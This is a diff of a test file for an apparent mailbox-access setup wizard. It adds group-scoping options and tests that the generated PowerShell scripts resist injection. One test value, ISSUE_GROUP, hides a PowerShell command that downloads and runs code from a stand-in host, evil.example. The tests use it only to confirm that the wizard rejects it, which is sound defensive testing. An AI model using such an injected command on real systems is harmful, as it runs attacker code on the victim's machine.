@@ -166,7 +166,13 @@ FORMS = {
     "setup.fresh_link": Form("anonymous"),
     "setup.administrator_sign_in": Form("anonymous"),
     "setup.method": Form(
-        "on_premises", {"method": ("application", "delegated"), "cloud": tuple(CLOUDS)}
+        "on_premises",
+        {
+            "method": ("application", "delegated"),
+            "mailbox_scope": ("all", "group"),
+            "group_scope_method": ("rbac", "access_policy"),
+            "cloud": tuple(CLOUDS),
+        },
     ),
     "setup.certificate": Form("on_premises"),
     "setup.generate_certificate": Form("on_premises", {"validity": ("365", "548", "730")}),
@@ -178,7 +184,6 @@ FORMS = {
             "tenant_id": ("example.edu", "72f988bf-86f1-41af-91ab-2d7cd011db47"),
             "client_id": (CLIENT_ID,),
             "security_group_email": ("group@example.edu",),
-            "group_scope_method": ("rbac", "access_policy"),
         },
     ),
     "setup.verify": Form(
@@ -262,6 +267,7 @@ PAGES = {
     "connect.callback": Page("connect", dict.fromkeys(CALLBACK, ())),
     "setup.open_invitation": Page("anonymous", {"to": ("rotation",)}, ("token",)),
     "setup.resume": Page("on_premises"),
+    "setup.start": Page("on_premises"),
     "setup.method": Page("on_premises"),
     "setup.certificate": Page("on_premises"),
     "setup.download_certificate": Page("on_premises"),
@@ -795,6 +801,7 @@ def _check_csv_export(app, client, values: list[str]):
                 name=value, slug=f"hostile-{n}", hosting="managed", contact_email="a@b.edu"
             )
             institution.configuration = Configuration(
+                method="application",  # an address stored before step 1 asked: the group
                 tenant_guid=f"00000000-0000-0000-0000-{n:012d}",
                 tenant_id=value,
                 client_id=value[:36],
@@ -846,7 +853,7 @@ ISSUE_GROUP = "a\u2019;iex(irm(\u2019https://evil.example/x\u2019));\u2019@conto
 
 def test_the_group_address_that_ran_code_is_refused_with_a_message(app, wizard, invitation):
     wizard.open(invitation["managed"])
-    wizard.to_tenant("application")
+    wizard.to_tenant("application", group=True)
     response = wizard.enter_tenant("example.edu", CLIENT_ID, group=ISSUE_GROUP)
     assert response.status_code == 400
     assert "e-mail address, such as mytimetable@example.edu" in response.text
@@ -887,7 +894,7 @@ def test_quotes_in_a_name_and_a_group_stay_strings_in_the_downloaded_scripts(app
         link = invitations.issue_invitation(institution, "test")
         db.session.commit()
     wizard.open(link)
-    wizard.to_tenant("application")
+    wizard.to_tenant("application", group=True)
     assert wizard.enter_tenant("example.edu", CLIENT_ID, group=group).status_code == 302
     for script in ("rbac", "access-policy"):
         response = wizard.client.get(f"/setup/scripts/{script}.ps1")
